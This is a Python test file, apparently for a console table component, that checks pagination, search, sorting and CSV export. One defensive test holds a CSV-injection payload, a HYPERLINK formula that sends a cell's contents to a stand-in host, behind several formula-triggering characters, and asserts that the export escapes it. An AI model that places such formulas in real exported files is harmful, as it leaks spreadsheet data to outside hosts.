"""Tables: what the URL asks for is shown, whatever it says; nothing of a file runs in a spreadsheet."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from remit.console.tables import Column, Table, csv_text, shown

COLUMNS = (Column(name="name", title="Name"), Column(name="size", title="Size", kind="number"))
cells = st.one_of(st.none(), st.text(max_size=20), st.lists(st.text(max_size=5), max_size=3))
tables = st.lists(
    st.fixed_dictionaries({"name": cells, "size": st.one_of(st.none(), st.integers(), st.floats(allow_nan=False))}),
    max_size=30,
)
queries = st.dictionaries(
    st.sampled_from(["q", "sort", "page", "other"]),
    st.one_of(st.text(max_size=12), st.sampled_from(["name", "-name", "size", "-size", "0", "1", "2", "-1", "9" * 40])),
)


def table(rows: list[dict[str, Any]], **more: str) -> Table:
    return Table(name="t", title="T", columns=COLUMNS, rows=rows, empty="none", **more)


@given(rows=tables, query=queries, most=st.integers(1, 7))
def test_every_row_that_matches_is_on_exactly_one_page(
    rows: list[dict[str, Any]], query: dict[str, str], most: int
) -> None:
    first = shown(table(rows), query | {"page": "1"}, most=most)
    pages = [shown(table(rows), query | {"page": str(at)}, most=most) for at in range(1, first.pages + 1)]
    assert sum(len(page.rows) for page in pages) == first.found
    assert all(len(page.rows) == most for page in pages[:-1])
    assert all({"name", "size"} <= set(row) for page in pages for row in page.rows)
    words = query.get("q", "").lower().split()
    for page in pages:
        for row in page.rows:
            text = csv_text(table([dict(row)])).lower()
            assert all(word in text or '"' in word for word in words)


@given(rows=tables, words=st.lists(st.text("0123456789.e+-inf ab", min_size=1, max_size=4), max_size=3))
def test_a_row_is_found_by_what_stands_in_its_cells(rows: list[dict[str, Any]], words: list[str]) -> None:
    sought = " ".join(words).lower().split()
    plain = ["\n".join(", ".join(c) if isinstance(c, list) else "" if c is None else str(c) for c in row.values())
             for row in rows]  # fmt: skip
    expected = sum(all(word in text.lower() for word in sought) for text in plain)
    assert shown(table(rows), {"q": " ".join(words)}).found == expected


@given(rows=tables, query=queries)
def test_whatever_the_url_says_a_page_is_shown(rows: list[dict[str, Any]], query: dict[str, str]) -> None:
    found = shown(table(rows), query)
    assert 1 <= found.page <= found.pages
    assert found.sort in {"", "name", "-name", "size", "-size"}


@given(rows=tables, down=st.booleans())
def test_numbers_are_in_order(rows: list[dict[str, Any]], *, down: bool) -> None:
    found = shown(table(rows), {"sort": "-size" if down else "size"}, most=1000)
    sizes = [row["size"] for row in found.rows if row["size"] is not None]
    assert sizes == sorted(sizes, reverse=down)


@given(rows=tables)
def test_no_cell_of_a_file_is_a_formula(rows: list[dict[str, Any]]) -> None:
    said = list(csv.reader(io.StringIO(csv_text(table(rows)))))
    assert said[0] == ["name", "size"]
    assert len(said) == 1 + len(rows)
    assert not any(name.startswith(("=", "+", "-", "@", "\t", "\r")) for name, _ in said[1:])


@pytest.mark.parametrize("begins", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
def test_what_would_run_in_a_spreadsheet_is_a_text_there(begins: str) -> None:
    text = begins + 'HYPERLINK("http://x/?"&A1)'
    for cell in (text, [text, "b"], (text,)):
        (_, (name, size)) = csv.reader(io.StringIO(csv_text(table([{"name": cell, "size": -3}])), newline=""))
        assert name.startswith(f"'{begins}")
        assert size == "-3", "a number stays one"


def test_a_second_table_has_names_of_its_own_in_the_url() -> None:
    rows = [{"name": "a", "size": 1}, {"name": "b", "size": 2}]
    assert [row["name"] for row in shown(table(rows), {"q": "a"}, prefix="t.").rows] == ["a", "b"]
    assert [row["name"] for row in shown(table(rows), {"t.q": "b"}, prefix="t.").rows] == ["b"]
